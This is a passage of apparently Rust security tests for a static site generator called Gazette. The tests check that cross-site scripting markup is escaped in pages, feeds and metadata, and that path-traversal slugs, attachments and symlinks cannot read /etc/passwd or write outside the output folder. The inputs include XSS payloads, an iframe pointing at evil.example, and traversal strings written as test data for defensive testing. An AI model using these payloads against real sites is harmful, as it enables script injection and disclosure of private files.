/// are. Written by an author inside an attribute value, they must not break out of it.
#[test]
fn task_list_stand_ins_cannot_break_out_of_attributes() {
    let cases = [
        ("sanitize", "stand-in in a raw attribute", "<abbr title=\"&#xF8F1;<img src=x onerror=alert(1)>\">RVAB</abbr>"),
        ("sanitize", "stand-in written as is in a raw attribute", "<abbr title=\"\u{F8F1} x\">RVAB</abbr>"),
        (
            "sanitize",
            "stand-in in a link title, with raw HTML elsewhere",
            "<b>raw</b> [link](https://ok.example/ \"\u{F8F0}\")",
        ),
        ("escape", "stand-in in a link title", "[link](https://ok.example/ \"\u{F8F0}\")"),
    ];
    let mut failures = Vec::new();
    for (mode, name, markdown) in cases {
        let built = TestSite::new()
            .config(&format!("[markdown]\nraw_html = \"{mode}\"\n"))
            .notice("news/a.md", "title = \"Stand-in\"\ndate = 2021-01-25", &format!("{markdown}\n\nAfter.\n"))
            .build()
            .ok();
        let page = built.page("/news/stand-in/");
        let body = notice_body(&page.html);
        let mut problems = markup_problems(&parse_html(body));
        if body.contains("<input") {
            problems.push("an <input> the author did not write as a task list".into());
        }
        if !problems.is_empty() {
            failures.push(format!("{mode}: {name}: {markdown:?}\n  - {}\n  body: {body}", problems.join("\n  - ")));
        }
    }
    assert!(failures.is_empty(), "attributes broken by task-list stand-ins:\n\n{}", failures.join("\n\n"));
}

/// Biographies, section introductions and the home page introduction follow the same policy.
#[test]
fn other_markdown_is_sanitized_too() {
    const HOSTILE: &str = "Intro <script>alert('intro')</script> <img src=x onerror=alert(1)> \
                           [x](javascript:alert(2)) <a href=\"jav&#x61;script:alert(3)\">y</a> \
                           <iframe src=\"https://evil.example/\"></iframe> <svg onload=alert(4)></svg>\n";
    let built = TestSite::new()
        .notice("news/a.md", "title = \"Hello\"\ndate = 2021-01-25\nbyline = \"Li Yang\"", "Text.")
        .file("content/people/li-yang.md", &format!("+++\nname = \"Li Yang\"\nrole = \"Reporter\"\n+++\n{HOSTILE}"))
        .file("content/news/_index.md", &format!("+++\ntitle = \"News\"\n+++\n{HOSTILE}"))
        .file("content/_index.md", &format!("+++\n+++\n{HOSTILE}"))
        .build()
        .ok();
    for path in ["/people/li-yang/", "/news/", "/"] {
        let page = built.page(path);
        assert!(page.html.contains("Intro"), "{path} lacks the introduction:\n{}", page.html);
        let problems = markup_problems(&parse_html(&page.html));
        assert!(problems.is_empty(), "{path}: {problems:#?}\n{}", page.html);
        for gone in ["alert(", "evil.example", "javascript", "onerror", "onload"] {
            assert!(!page.html.contains(gone), "{path}: {gone:?} got through:\n{}", page.html);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 2. Front matter values, escaped everywhere
// ---------------------------------------------------------------------------------------------

/// What every string field carries, after a label naming the field.
const P: &str = "\"><script>alert(1)</script> </script><script>alert(2)</script> ' onmouseover='alert(3) ]]>";

const NOW: &str = "2026-11-25T12:00:00+08:00";

fn h(label: &str) -> String {
    format!("{label} {P}")
}

/// A TOML basic string.
fn toml(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() || matches!(c, '\u{fffe}' | '\u{ffff}') => {
                out.push_str(&format!("\\u{:04X}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The fields checked in the HTML pages: each must reach some page intact, as text or as
/// an attribute's value.
const HTML_LABELS: &[&str] = &[
    "Bureau",
    "Desc",
    "Pub",
    "Title",
    "Orig",
    "Byline",
    "Editor",
    "Second editor",
    "Tag",
    "Second tag",
    "Section",
    "Summary",
    "Location",
    "Ref",
    "Note",
    "Att",
    "Extra",
    "Withdrawn",
    "Reason",
    "Body orig",
    "Translation",
    "Role",
    "Index title",
    "Index desc",
    "Contact name",
    "Address",
];

/// A site with markup in every string field, in slug `mode`.
fn hostile_site(mode: &str, search: bool) -> TestSite {
    let site_toml = format!(
        "title = {}\nbase_url = \"https://news.example.gov\"\ntimezone = \"Asia/Shanghai\"\ndescription = {}\n\
         publisher = {}\nsearch = {search}\n# Every format for every listing, so that each is tried.\n\
         feed_formats = [\"atom\", \"rss\", \"json\"]\nfeed_content = \"full\"\n\n[slugs]\nmode = \"{mode}\"\n\n[extra]\nmedia_contact_name = {}\n\
         media_contact_email = {}\nmedia_contact_phone = {}\naddress = {}\n",
        toml(&h("Bureau")),
        toml(&h("Desc")),
        toml(&h("Pub")),
        toml(&h("Contact name")),
        toml(&h("press@example.gov")),
        toml(&h("+86 991")),
        toml(&h("Address")),
    );
    let all = format!(
        "title = {}\ndate = 2026-11-24T09:00:00+08:00\nupdated = 2026-11-24T10:00:00+08:00\noriginal_title = {}\n\
         byline = [{}]\neditors = [{}, {}]\ntags = [{}, {}]\nsection = {}\nsummary = {}\nlocation = {}\n\
         reference = {}\n\n[[corrections]]\ndate = 2026-11-24T11:00:00+08:00\nnote = {}\n\n\
         [[attachments]]\npath = \"doc.pdf\"\ntitle = {}\n\n[extra]\ncontact = {}",
        toml(&h("Title")),
        toml(&h("Orig")),
        toml(&h("Byline")),
        toml(&h("Editor")),
        toml(&h("Second editor")),
        toml(&h("Tag")),
        toml(&h("Second tag")),
        toml(&h("Section")),
        toml(&h("Summary")),
        toml(&h("Location")),
        toml(&h("Ref")),
        toml(&h("Note")),
        toml(&h("Att")),
        toml(&h("Extra")),
    );
    let withdrawn = format!(
        "title = {}\ndate = 2026-11-20\nslug = \"w'onmouseover='alert(5)&y=1\"\ntags = [{}]\n\
         withdrawn = {{ date = 2026-11-24, reason = {} }}",
        toml(&h("Withdrawn")),
        toml(&h("Tag")),
        toml(&h("Reason")),
    );
    // A translation, in YAML front matter, whose title the original shows in a `title`
    // attribute.
    let translation = format!(
        "---\ntitle: {}\ndate: 2026-11-24\nlang: zh-Hans\ntranslation_of: news/all.md\nsummary: {}\n---\n正文。\n",
        toml(&h("Translation")),
        toml(&h("Translation summary")),
    );
    // The bureau theme does not show `extra`; a site template that does must escape it too.
    let notice_template = include_str!("../themes/bureau/templates/notice.html")
        .replace(
            "{% endblock head %}",
            "<meta name=\"x-extra\" content=\"{{ notice.extra.contact | default(value='') }}\">\n{% endblock head %}",
        )
        .replace("</article>", "<p class=\"extra\">{{ notice.extra.contact | default(value='') }}</p>\n</article>");
    assert!(notice_template.contains("x-extra") && notice_template.contains("class=\"extra\""));
    TestSite::new()
        .file("site.toml", &site_toml)
        .notice(
            "news/all.md",
            &all,
            "First paragraph.\n\n<p onclick=\"alert('body')\">Body <script>alert('body')</script> text.</p>\n",
        )
        .file("content/news/doc.pdf", "%PDF-1.4\n")
        .notice("news/withdrawn.md", &withdrawn, &format!("Original title: {}\n\nText.\n", h("Body orig")))
        .file("content/news/translation.md", &translation)
        .file(
            "content/people/x.md",
            &format!(
                "+++\nname = {}\nrole = {}\n+++\nBio <script>alert('bio')</script>.\n",
                toml(&h("Byline")),
                toml(&h("Role"))
            ),
        )
        .file(
            "content/notes/_index.md",
            &format!(
                "+++\ntitle = {}\ndescription = {}\n+++\nIntro.\n",
                toml(&h("Index title")),
                toml(&h("Index desc"))
            ),
        )
        .file("templates/notice.html", &notice_template)
}

/// Reads every file of `dir`, by relative path.
fn files(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    harness::tree(dir)
}

/// Collects the decoded text and attribute values of an XML document, and complains about
/// any element that should not be there.
fn xml_corpus(rel: &str, doc: &roxmltree::Document, problems: &mut Vec<String>) -> String {
    let mut out = String::new();
    for node in doc.descendants() {
        if node.is_element() {
            let name = node.tag_name().name().to_ascii_lowercase();
            if ["script", "img", "iframe", "style"].contains(&name.as_str()) {
                problems.push(format!("{rel}: an element <{name}> (a value broke out of its text)"));
            }
            for a in node.attributes() {
                out.push('\u{1}');
                out.push_str(a.value());
                if a.name().starts_with("on") {
                    problems.push(format!("{rel}: an attribute `{}`", a.name()));
                }
            }
        } else if let Some(t) = node.text()
            && node.is_text()
        {
            out.push('\u{1}');
            out.push_str(t);
        }
    }
    out
}

/// Checks every file of a build of [`hostile_site`].
fn check_hostile_output(output: &Path) {
    let tree = files(output);
    assert!(tree.len() > 20, "too few files: {:?}", tree.keys());
    let mut problems = Vec::new();
    let mut html_corpus: BTreeMap<String, String> = BTreeMap::new();
    let mut xml_corpora: BTreeMap<String, String> = BTreeMap::new();
    let mut notice_page = None;
    let mut original_page = None;
    for (rel, bytes) in &tree {
        let ext = rel.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
        match ext {
            "html" => {
                let text = std::str::from_utf8(bytes).unwrap_or_else(|_| panic!("{rel} is not UTF-8"));
                let html = parse_html(text);
                problems.extend(markup_problems(&html).into_iter().map(|p| format!("{rel}: {p}")));
                for raw in [
                    "<script>alert(",
                    "</script><script>",
                    "onmouseover='alert",
                    "onmouseover=\"alert",
                    "onmouseover=alert",
                ] {
                    if let Some(i) = html.outside_scripts.find(raw) {
                        let from = html.outside_scripts[..i].char_indices().rev().nth(120).map_or(0, |(c, _)| c);
                        let excerpt: String = html.outside_scripts[from..].chars().take(300).collect();
                        problems.push(format!("{rel}: {raw:?} as markup: …{excerpt}…"));
                    }
                }
                for ld in html.json_ld() {
                    if ld.to_ascii_lowercase().contains("</script") || ld.contains("<!--") {
                        problems.push(format!("{rel}: JSON-LD holds `</script` or `<!--`: {ld}"));
                    }
                    match serde_json::from_str::<serde_json::Value>(ld) {
                        Ok(v) if v["headline"] == h("Title") => notice_page = Some((rel.clone(), v)),
                        Ok(_) => {}
                        Err(e) => problems.push(format!("{rel}: JSON-LD does not parse: {e}: {ld}")),
                    }
                }
                if html.elements.iter().any(|e| e.name == "a" && e.attr("title") == Some(h("Translation").as_str())) {
                    original_page = Some(rel.clone());
                }
                html_corpus.insert(rel.clone(), html.corpus());
            }
            "xml" => {
                let text = std::str::from_utf8(bytes).unwrap_or_else(|_| panic!("{rel} is not UTF-8"));
                match roxmltree::Document::parse(text) {
                    Ok(doc) => {
                        xml_corpora.insert(rel.clone(), xml_corpus(rel, &doc, &mut problems));
                    }
                    Err(e) => problems.push(format!("{rel} is not well-formed XML: {e}")),
                }
            }
            "json" => {
                if let Err(e) = serde_json::from_slice::<serde_json::Value>(bytes) {
                    problems.push(format!("{rel} is not valid JSON: {e}"));
                }
            }
            _ => {
                if let Ok(text) = std::str::from_utf8(bytes)
                    && (text.contains("<script>alert(") || text.contains("onmouseover='alert"))
                {
                    problems.push(format!("{rel} holds the hostile markup raw"));
                }
            }
        }
    }
    assert!(problems.is_empty(), "{} problems:\n{}", problems.len(), problems.join("\n"));

    // Every field reached some page, intact once decoded: so each one was really checked.
    for label in HTML_LABELS {
        let value = h(label);
        assert!(
            html_corpus.values().any(|c| c.contains(&value)),
            "the field `{label}` reaches no HTML page intact (the escaping lost or changed it)"
        );
    }

    // The notice's own page: JSON-LD and the attributes of its head.
    let (notice_rel, ld) = notice_page.expect("no notice page has the hostile headline in its JSON-LD");
    for (key, want) in [
        ("/alternativeHeadline", h("Orig")),
        ("/description", h("Summary")),
        ("/author/0/name", h("Byline")),
        ("/editor/0/name", h("Editor")),
        ("/editor/1/name", h("Second editor")),
        ("/publisher/name", h("Pub")),
        ("/locationCreated/name", h("Location")),
        ("/identifier", h("Ref")),
        ("/keywords/0", h("Tag")),
        ("/articleSection", h("Section")),
    ] {
        assert_eq!(ld.pointer(key).and_then(|v| v.as_str()), Some(want.as_str()), "JSON-LD {key} in {notice_rel}");
    }
    let page = parse_html(std::str::from_utf8(&tree[&notice_rel]).unwrap());
    for (key, want) in [
        ("og:title", h("Title")),
        ("twitter:title", h("Title")),
        ("description", h("Summary")),
        ("og:description", h("Summary")),
        ("og:site_name", h("Bureau")),
        ("article:section", h("Section")),
        ("article:tag", h("Tag")),
        ("x-extra", h("Extra")),
    ] {
        assert!(page.meta(key).contains(&want.as_str()), "<meta {key}> in {notice_rel}: {:?}", page.meta(key));
    }
    let original = original_page.expect("no page links the translation with its title in a title attribute");
    assert_eq!(original, notice_rel, "the translation's link is not on the original's page");

    // Feeds: the values are data, intact.
    let atom = atom_syndication::Feed::read_from(&tree["atom.xml"][..]).expect("atom.xml");
    assert_eq!(atom.title().as_str(), h("Bureau"), "atom.xml title");
    assert_eq!(atom.subtitle().map(|s| s.as_str()), Some(h("Desc").as_str()), "atom.xml subtitle");
    assert_eq!(atom.authors()[0].name(), h("Pub"), "atom.xml author");
    let entry = atom.entries().iter().find(|e| e.title().as_str() == h("Title")).expect("atom.xml entry");
    assert_eq!(entry.summary().map(|s| s.as_str()), Some(h("Summary").as_str()), "atom.xml summary");
    assert_eq!(entry.authors()[0].name(), h("Byline"), "atom.xml entry author");
    assert!(entry.categories().iter().any(|c| c.term() == h("Tag")), "atom.xml category");
    let content = entry.content().and_then(|c| c.value()).unwrap_or("");
    for gone in ["<script", "onclick", "alert('body')"] {
        assert!(!content.contains(gone), "atom.xml content holds {gone:?}: {content}");
    }

    let rss = rss::Channel::read_from(&tree["rss.xml"][..]).expect("rss.xml");
    assert_eq!(rss.title(), h("Bureau"), "rss.xml title");
    // Readers take an RSS description as HTML: the plain text arrives escaped once more.
    assert!(!rss.description().contains("<script"), "rss.xml description: {}", rss.description());
    assert_eq!(decode(rss.description()), h("Desc"), "rss.xml description");
    let item = rss.items().iter().find(|i| i.title() == Some(h("Title").as_str())).expect("rss.xml item");
    assert!(item.categories().iter().any(|c| c.name() == h("Tag")), "rss.xml category");
    for gone in ["<script", "onclick"] {
        assert!(!item.content().unwrap_or("").contains(gone), "rss.xml content:encoded holds {gone:?}");
    }

    let feed: serde_json::Value = serde_json::from_slice(&tree["feed.json"]).unwrap();
    assert_eq!(feed["title"], h("Bureau"), "feed.json title");
    assert_eq!(feed["description"], h("Desc"), "feed.json description");
    assert_eq!(feed["authors"][0]["name"], h("Pub"), "feed.json author");
    let item = feed["items"].as_array().unwrap().iter().find(|i| i["title"] == h("Title")).expect("feed.json item");
    assert_eq!(item["summary"], h("Summary"), "feed.json summary");
    assert_eq!(item["authors"][0]["name"], h("Byline"), "feed.json item author");
    assert!(
        item["tags"].as_array().unwrap().contains(&serde_json::json!(h("Tag"))),
        "feed.json tags: {}",
        item["tags"]
    );
    let content = item["content_html"].as_str().unwrap_or("");
    for gone in ["<script", "onclick"] {
        assert!(!content.contains(gone), "feed.json content_html holds {gone:?}: {content}");
    }

    let news = &xml_corpora["news-sitemap.xml"];
    for label in ["Title", "Pub", "Translation"] {
        assert!(news.contains(&h(label)), "news-sitemap.xml lacks `{label}` intact:\n{news}");
    }
    assert!(xml_corpora.contains_key("sitemap.xml"));
    // The feeds of sections, tags and people carry the values too.
    for (rel, corpus) in &xml_corpora {
        if rel.ends_with("atom.xml") || rel.ends_with("rss.xml") {
            assert!(corpus.contains(&h("Bureau")), "{rel} lacks the site's title intact");
        }
    }
}

#[test]
fn front_matter_values_are_escaped_everywhere() {
    let site = hostile_site("transliterate", true);
    let built = site.build_with(&["--now", NOW]).ok();
    check_hostile_output(&built.output);
    // The withdrawn notice's page exists and says why.
    let tree = built.tree();
    assert!(tree.keys().any(|k| k.starts_with("news/w'onmouseover='alert(5)&y=1/")), "{:?}", tree.keys());
}

/// With `[slugs] mode = "off"`, the values also become file names and (encoded) addresses.
#[test]
fn front_matter_values_are_escaped_everywhere_with_slugs_off() {
    let site = hostile_site("off", false);
    let built = site.build_with(&["--now", NOW]).ok();
    check_hostile_output(&built.output);
}

/// RSS readers show an item's `description` as HTML. The summary is plain text, so markup in
/// it must reach them as text (escaped twice: for HTML, then for XML), not as live markup.
#[test]
fn rss_descriptions_carry_summaries_as_text() {
    let built = TestSite::new()
        .notice(
            "news/a.md",
            &format!("title = \"Hello\"\ndate = 2026-11-24\nsummary = {}", toml(&h("Summary"))),
            "Text.",
        )
        .build()
        .ok();
    let channel = rss::Channel::read_from(&built.tree()["rss.xml"][..]).expect("rss.xml");
    let description = channel.items()[0].description().unwrap_or("");
    assert!(
        !description.contains("<script") && decode(description) == h("Summary"),
        "rss.xml: the item's description, as HTML, is {description:?}: a reader runs its <script> \
         instead of showing the summary {:?} as text",
        h("Summary")
    );
}

/// Characters XML cannot hold at all never make a feed or a sitemap unreadable.
#[test]
fn control_characters_do_not_break_xml_or_json() {
    let nasty = "Ctl \u{1}\u{8}\u{b}\u{1b}\u{7f}\u{fffe}\u{ffff} ]]> &amp; \u{2028}";
    let fm = format!(
        "title = {}\ndate = 2026-11-24T09:00:00+08:00\nsummary = {}\ntags = [{}]\nbyline = {}\nlocation = {}",
        toml(nasty),
        toml(nasty),
        toml(nasty),
        toml(nasty),
        toml(nasty)
    );
    let built = TestSite::new()
        .config(&format!("description = {}\n", toml(nasty)))
        // Written raw in a file, a control character is refused at its place (see
        // tests/integration/raw_html.rs); escaped in the front matter, it is a value to carry.
        .notice("news/a.md", &fm, &format!("Body {}\n", nasty.replace(char::is_control, "")))
        .build_with(&["--now", NOW])
        .ok();
    for (rel, bytes) in built.tree() {
        if rel.ends_with(".xml") {
            let text = String::from_utf8(bytes).unwrap();
            if let Err(e) = roxmltree::Document::parse(&text) {
                panic!("{rel} is not well-formed XML: {e}\n{text}");
            }
        } else if rel.ends_with(".json") {
            serde_json::from_slice::<serde_json::Value>(&bytes).unwrap_or_else(|e| panic!("{rel}: {e}"));
        } else if rel.ends_with(".html") {
            let html = parse_html(std::str::from_utf8(&bytes).unwrap());
            let problems = markup_problems(&html);
            assert!(problems.is_empty(), "{rel}: {problems:#?}");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 3. Paths
// ---------------------------------------------------------------------------------------------

const DECOY: &str = "root:x:0:0:decoy:/root:/bin/bash\n";

/// A site at `<outer>/site`, with decoys outside it that a path escaping the site would reach.
struct Jail {
    outer: tempfile::TempDir,
}

impl Jail {
    fn new() -> Jail {
        let jail = Jail { outer: tempfile::tempdir().unwrap() };
        jail.write("site/site.toml", "title = \"Jail\"\nbase_url = \"https://news.example.gov\"\nsearch = false\n");
        jail.write("etc/passwd", DECOY);
        jail.write("secret.txt", DECOY);
        jail.write("site.toml", "title = \"Decoy\"\nbase_url = \"https://decoy.example\"\n");
        jail.write("x.md", "+++\ntitle = \"Decoy notice\"\ndate = 2021-01-25\n+++\nDecoy.\n");
        jail
    }

    fn outer(&self) -> &Path {
        self.outer.path()
    }

    fn site(&self) -> PathBuf {
        self.outer().join("site")
    }

    fn output(&self) -> PathBuf {
        self.site().join("public")
    }

    fn write(&self, rel: &str, text: &str) {
        let path = self.outer().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn notice(&self, fm: &str) {
        self.write("site/content/news/a.md", &format!("+++\ntitle = \"Hello\"\ndate = 2021-01-25\n{fm}\n+++\nBody.\n"));
    }

    /// Everything under the outer folder except the output: paths, with file contents and
    /// link targets.
    fn snapshot(&self) -> BTreeMap<PathBuf, String> {
        let output = self.output();
        // Gazette's own folder, which holds the build cache, is the one other place a build
        // writes.
        let cache = self.site().join(".gazette");
        walkdir::WalkDir::new(self.outer())
            .follow_links(false)
            .into_iter()
            .filter_entry(|e| e.path() != output && e.path() != cache)
            .map(|e| e.unwrap())
            .map(|e| {
                let t = e.file_type();
                let what = if t.is_symlink() {
                    format!("link to {}", std::fs::read_link(e.path()).unwrap().display())
                } else if t.is_file() {
                    String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()).into_owned()
                } else {
                    "folder".to_owned()
                };
                (e.path().to_path_buf(), what)
            })
            .collect()
    }
}

/// `path` without `.` and `..`, as the kernel would resolve it without links.
fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in path.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

/// Places outside the jail that a value could point at from the folders Gazette reads and
/// writes, with whether each existed before.
fn escape_targets(jail: &Jail, value: &str) -> Vec<(PathBuf, Option<Vec<u8>>)> {
    let site = jail.site();
    let mut bases = vec![site.clone(), site.join("content"), site.join("content/news"), jail.output()];
    for sub in ["news", "tags", "people", "news/hello", "tags/x"] {
        bases.push(jail.output().join(sub));
    }
    let mut targets: Vec<PathBuf> = Vec::new();
    for base in bases {
        let t = normalize(&base.join(value));
        targets.push(t.clone());
        targets.push(t.join("index.html"));
    }
    targets.sort();
    targets.dedup();
    targets
        .into_iter()
        .filter(|t| !t.starts_with(jail.output()))
        .map(|t| {
            let before = std::fs::read(&t).ok();
            (t, before)
        })
        .collect()
}

/// How a hostile path must end.
enum Outcome {
    /// Refused, with a message naming the notice and containing this text.
    Refused(&'static str),
    /// Built, with this file inside the output.
    Built(&'static str),
}

/// Builds a jail set up by `setup`, then checks that nothing outside the output changed,
/// that every output file is inside the output and that no decoy or system file leaked.
fn check_path_case(name: &str, values: &[&str], outcome: Outcome, setup: impl FnOnce(&Jail)) {
    let jail = Jail::new();
    setup(&jail);
    let before = jail.snapshot();
    let mut watched: Vec<(PathBuf, Option<Vec<u8>>)> = values.iter().flat_map(|v| escape_targets(&jail, v)).collect();
    for system in ["/etc/passwd", "/etc/index.html", "/etc/escape", "/escape", "/x"] {
        watched.push((PathBuf::from(system), std::fs::read(system).ok()));
    }
    let site = jail.site();
    let result = gazette::run(["gazette", "build", "--root", site.to_str().unwrap()]);

    match (&outcome, &result) {
        (Outcome::Refused(text), Err(e)) => {
            let message = e.to_string();
            assert!(
                message.contains("content/news/a.md") && message.contains(text),
                "{name}: the error should name content/news/a.md and say {text:?}:\n{message}"
            );
        }
        (Outcome::Refused(_), Ok(())) => panic!("{name}: the build succeeded but should have been refused"),
        (Outcome::Built(file), Ok(())) => {
            assert!(jail.output().join(file).is_file(), "{name}: {file} missing from the output")
        }
        (Outcome::Built(_), Err(e)) => panic!("{name}: the build failed: {e}"),
    }

    let after = jail.snapshot();
    let changed: Vec<_> = after.iter().filter(|(p, v)| before.get(*p) != Some(*v)).map(|(p, _)| p).collect();
    let removed: Vec<_> = before.keys().filter(|p| !after.contains_key(*p)).collect();
    assert!(
        changed.is_empty() && removed.is_empty(),
        "{name}: outside the output, changed {changed:?}, removed {removed:?}"
    );
    for (path, was) in &watched {
        assert_eq!(&std::fs::read(path).ok(), was, "{name}: {} was written", path.display());
    }

    let real_passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
    let first_line = real_passwd.lines().next().unwrap_or("root:x:0:0").to_owned();
    if jail.output().exists() {
        let output = jail.output().canonicalize().unwrap();
        for e in walkdir::WalkDir::new(&output).follow_links(false) {
            let e = e.unwrap();
            assert!(!e.file_type().is_symlink(), "{name}: the output holds a link: {}", e.path().display());
            let real = e.path().canonicalize().unwrap();
            assert!(real.starts_with(&output), "{name}: {} is outside the output", real.display());
            if e.file_type().is_file() {
                let text = String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()).into_owned();
                assert!(
                    !text.contains("root:x:0:0") && !text.contains(&first_line),
                    "{name}: {} holds the contents of a passwd file",
                    e.path().display()
                );
            }
        }
    }
}

#[test]
fn explicit_slugs_cannot_leave_the_output() {
    check_path_case("slug ../../escape", &["../../escape"], Outcome::Refused("../../escape"), |j| {
        j.notice("slug = \"../../escape\"")
    });
    check_path_case("slug /etc", &["/etc"], Outcome::Refused("/etc"), |j| j.notice("slug = \"/etc\""));
    check_path_case("slug ..\\..\\escape", &["../../escape"], Outcome::Refused("slug"), |j| {
        j.notice("slug = '..\\..\\escape'")
    });
    check_path_case("slug ..", &[".."], Outcome::Refused("slug"), |j| j.notice("slug = \"..\""));
}

#[test]
fn sections_tags_and_names_cannot_leave_the_output() {
    for mode in ["transliterate", "off"] {
        let config = format!("[slugs]\nmode = \"{mode}\"\n");
        let with_mode = |j: &Jail, fm: &str| {
            let mut toml = std::fs::read_to_string(j.site().join("site.toml")).unwrap();
            toml.push_str(&config);
            j.write("site/site.toml", &toml);
            j.notice(fm);
        };
        let hello = if mode == "off" { "x/Hello/index.html" } else { "x/hello/index.html" };
        check_path_case(&format!("section ../../x ({mode})"), &["../../x"], Outcome::Built(hello), |j| {
            with_mode(j, "section = \"../../x\"")
        });
        check_path_case(&format!("section /etc ({mode})"), &["/etc"], Outcome::Built("etc/index.html"), |j| {
            with_mode(j, "section = \"/etc\"")
        });
        check_path_case(
            &format!("tag ../../x ({mode})"),
            &["../../x", "../../../x"],
            Outcome::Built("tags/x/index.html"),
            |j| with_mode(j, "tags = [\"../../x\"]"),
        );
        check_path_case(
            &format!("byline ../../x ({mode})"),
            &["../../x"],
            Outcome::Built("people/x/index.html"),
            |j| with_mode(j, "byline = \"../../x\"\neditors = [\"/etc\"]"),
        );
        check_path_case(
            &format!("person file named ../../x ({mode})"),
            &["../../x"],
            Outcome::Built("people/x/index.html"),
            |j| {
                with_mode(j, "byline = \"../../x\"");
                j.write("site/content/people/x.md", "+++\nname = \"../../x\"\nrole = \"/etc/passwd\"\n+++\nBio.\n");
            },
        );
    }
    // In `off` mode a title is kept as written: one made of `..` and `/` stays in the output.
    check_path_case(
        "title ../../../escape (off)",
        &["../../../escape", "../../escape"],
        Outcome::Built("news/escape/index.html"),
        |j| {
            let mut toml = std::fs::read_to_string(j.site().join("site.toml")).unwrap();
            toml.push_str("[slugs]\nmode = \"off\"\n");
            j.write("site/site.toml", &toml);
            j.write("site/content/news/a.md", "+++\ntitle = \"../../../escape\"\ndate = 2021-01-25\n+++\nBody.\n");
        },
    );
}

#[test]
fn translation_of_cannot_name_a_file_outside_content() {
    for value in ["../../site.toml", "/etc/passwd", "../../x.md", "../site.toml", "news/../../../x.md"] {
        check_path_case(&format!("translation_of {value}"), &[value], Outcome::Refused("translation_of"), |j| {
            j.notice(&format!("translation_of = {}", toml(value)))
        });
    }
}

fn attachment(path: &str) -> String {
    format!("\n[[attachments]]\npath = {}\ntitle = \"Document\"", toml(path))
}

#[test]
fn notices_linked_from_outside_the_site_are_not_published() {
    // A folder of notices elsewhere on the machine, linked into content/.
    let jail = Jail::new();
    jail.notice("");
    jail.write(
        "elsewhere/private/secret.md",
        "+++\ntitle = \"Private memo\"\ndate = 2021-01-25\n+++\nNot for the public.\n",
    );
    std::os::unix::fs::symlink(jail.outer().join("elsewhere/private"), jail.site().join("content/linked")).unwrap();
    std::os::unix::fs::symlink(
        jail.outer().join("elsewhere/private/secret.md"),
        jail.site().join("content/news/memo.md"),
    )
    .unwrap();
    let site = jail.site();
    let message = gazette::run(["gazette", "build", "--root", site.to_str().unwrap()]).unwrap_err().to_string();
    for link in ["content/linked", "content/news/memo.md"] {
        assert!(
            message.contains(&format!(
                "{link}: this link leads out of the site's folder; Gazette does not publish files from elsewhere"
            )),
            "{link}: {message}"
        );
    }
    assert!(!jail.output().exists(), "the build wrote an output");
    // A link to notices inside the site's folder is followed.
    jail.write("site/shared/joint.md", "+++\ntitle = \"Joint notice\"\ndate = 2021-01-26\n+++\nShared.\n");
    std::fs::remove_file(jail.site().join("content/linked")).unwrap();
    std::fs::remove_file(jail.site().join("content/news/memo.md")).unwrap();
    std::os::unix::fs::symlink(jail.site().join("shared"), jail.site().join("content/joint")).unwrap();
    gazette::run(["gazette", "build", "--root", site.to_str().unwrap()]).unwrap();
    assert!(jail.output().join("joint/joint-notice/index.html").is_file());
}

#[test]
fn attachments_cannot_be_read_from_outside_the_site() {
    for value in [
        "../../../etc/passwd",
        "/etc/passwd",
        "../../../secret.txt",
        "docs/../../../../secret.txt",
        "..\\..\\..\\secret.txt",
        "./../../../secret.txt",
    ] {
        check_path_case(
            &format!("attachment path {value}"),
            &[value],
            Outcome::Refused("leaves the notice's folder"),
            |j| j.notice(&attachment(value)),
        );
    }
    // Links inside the notice's folder that point outside the site.
    check_path_case("attachment linking to /etc/passwd", &[], Outcome::Refused("outside content/"), |j| {
        j.notice(&attachment("passwd.txt"));
        std::os::unix::fs::symlink("/etc/passwd", j.site().join("content/news/passwd.txt")).unwrap();
    });
    check_path_case("attachment linking to a file beside the site", &[], Outcome::Refused("outside content/"), |j| {
        j.notice(&attachment("secret.txt"));
        std::os::unix::fs::symlink(j.outer().join("secret.txt"), j.site().join("content/news/secret.txt")).unwrap();
    });
    check_path_case("attachment linking by a relative path", &[], Outcome::Refused("outside content/"), |j| {
        j.notice(&attachment("rel.txt"));
        std::os::unix::fs::symlink("../../../secret.txt", j.site().join("content/news/rel.txt")).unwrap();
    });
    check_path_case("attachment in a linked folder", &[], Outcome::Refused("outside content/"), |j| {
        j.notice(&attachment("docs/passwd"));
        std::os::unix::fs::symlink(j.outer().join("etc"), j.site().join("content/news/docs")).unwrap();
    });
    // Links to the site's own files are refused: only content/ is published.
    for (target, name) in [
        ("../../site.toml", "site.txt"),
        ("../../static-doc.txt", "doc.txt"),
        ("../../.git/config", "config.txt"),
        ("../../.gazette/cache/draft", "draft.txt"),
    ] {
        check_path_case(&format!("attachment linking to {target}"), &[], Outcome::Refused("outside content/"), |j| {
            j.notice(&attachment(name));
            j.write("site/static-doc.txt", DECOY);
            j.write("site/.git/config", DECOY);
            j.write("site/.gazette/cache/draft", DECOY);
            std::os::unix::fs::symlink(target, j.site().join("content/news").join(name)).unwrap();
        });
    }
    // A link to a file inside content/ is fine: it is copied into the output.
    check_path_case("attachment linking inside content/", &[], Outcome::Built("news/hello/inside.txt"), |j| {
        j.notice(&attachment("inside.txt"));
        j.write("site/content/shared/doc.txt", "A document.\n");
        std::os::unix::fs::symlink("../shared/doc.txt", j.site().join("content/news/inside.txt")).unwrap();
    });
}

#[test]
fn images_beside_notices_cannot_be_read_from_outside_content() {
    for (target, name) in [
        ("../../../etc/passwd", "passwd.png"),
        ("../../site.toml", "site.png"),
        ("../../.git/config", "config.png"),
        ("../../.gazette/cache/draft", "draft.svg"),
    ] {
        check_path_case(&format!("image linking to {target}"), &[], Outcome::Refused("outside content/"), |j| {
            j.write(
                "site/content/news/a.md",
